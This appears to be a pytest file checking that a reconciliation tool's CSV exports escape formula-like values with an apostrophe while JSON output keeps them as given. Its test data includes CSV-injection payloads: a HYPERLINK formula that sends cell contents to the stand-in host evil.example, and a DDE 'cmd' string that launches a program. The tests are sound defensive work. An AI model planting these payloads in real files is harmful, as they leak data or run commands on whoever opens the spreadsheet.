"""CSV injection (issue 10, defect 7): a formula-like value from an input file comes back as text in every
CSV export (search, findings.csv, reject files, any CLI listing) and unchanged in JSON; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from tests.reconciliation.recon_cases import Case, run
from tests.support.cli import run_in_process
from tests.support.factories import World
from tests.support.files import write_lines
from tests.support.journals import JOURNAL_HEADER, journal_line

from recoup.output import Format, emit, safe_cell

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
IN_CSV = '"' + FORMULA.replace('"', '""') + '"'


@pytest.mark.parametrize(("value", "written"), [
    (FORMULA, "'" + FORMULA), ("+1+2", "'+1+2"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-12.00", "-12.00"), ("+3", "+3"), ("12.00", "12.00"), ("NO1", "NO1"), ("", ""), ("a=b", "a=b"),
    (-12, -12), (None, None),
])
def test_safe_cell(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_cli_listing_csv_is_neutralised_and_json_kept(capsys: pytest.CaptureFixture[str]) -> None:
    rows: list[dict[str, object]] = [{"name": FORMULA, "amount": "-12.00", "count": -3}]
    emit(rows, Format.csv)
    cells = next(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert cells == {"name": "'" + FORMULA, "amount": "-12.00", "count": "-3"}
    emit(rows, Format.json)
    assert json.loads(capsys.readouterr().out) == rows


def _recoup(args: list[str], database_url: str, monkeypatch: pytest.MonkeyPatch,
            capsys: pytest.CaptureFixture[str]) -> str:
    ran = run_in_process(args, database_url, monkeypatch, capsys)
    assert ran.code == 0, ran.err
    return ran.out


def test_search_csv_neutralises_formulas_and_json_keeps_them(world: World, database_url: str, tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    assert world
    journal = write_lines(tmp_path / "journal.csv", JOURNAL_HEADER,
                          journal_line("128.00", order_no=IN_CSV, cashier="@SUM(A1)", card="622848******5678"))
    _recoup(["import", "journal", str(journal)], database_url, monkeypatch, capsys)
    exported = _recoup(["search", "--in", "journal", "--format", "csv"], database_url, monkeypatch, capsys)
    row = next(csv.DictReader(io.StringIO(exported)))
    assert row["order_no"] == "'" + FORMULA
    assert row["cashier_id"] == "'@SUM(A1)"
    assert FORMULA not in exported.replace("'" + FORMULA, "")
    listed = json.loads(_recoup(["search", "--in", "journal", "--format", "json"], database_url, monkeypatch, capsys))
    assert listed[0]["order_no"] == FORMULA
    assert listed[0]["cashier_id"] == "@SUM(A1)"


def test_findings_csv_neutralises_free_text_and_keeps_amounts(tmp_path: Path) -> None:
    case = Case()
    case.paid(FORMULA, "000000000001", "10.00", "10:00")
    case.orders[0]["expected_amount"] = "19.00"  # an undercharge: difference -9.00, a number
    rows = run(case, tmp_path)
    assert len(rows) == 1
    assert rows[0]["kind"] == "UNDERCHARGE"
    assert rows[0]["order_no"] == "'" + FORMULA
    assert (rows[0]["charged_amount"], rows[0]["expected_amount"], rows[0]["difference"]) == ("10.00", "19.00",
                                                                                              "-9.00")
    assert rows[0]["explanation"]
    assert not rows[0]["explanation"].startswith("'")


def test_reject_file_neutralises_formulas(world: World, database_url: str, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    assert world
    journal = write_lines(tmp_path / "journal.csv", JOURNAL_HEADER,
                          journal_line("128.00", rrn="000000000001"),
                          journal_line("-1.00", rrn="000000000002", order_no=IN_CSV, cashier="+1+2"))
    rejects = tmp_path / "journal.rejects.csv"
    _recoup(["import", "journal", str(journal), "--skip-bad-rows", "--rejects", str(rejects)],
            database_url, monkeypatch, capsys)
    written = rejects.read_text(encoding="utf-8")
    row = next(csv.DictReader(io.StringIO(written)))
    assert row["order_no"] == "'" + FORMULA
    assert row["cashier_id"] == "'+1+2"
    assert row["amount"] == "-1.00"  # the bad amount as it was: a number, not a formula
    assert row["reject_line"] == "3"
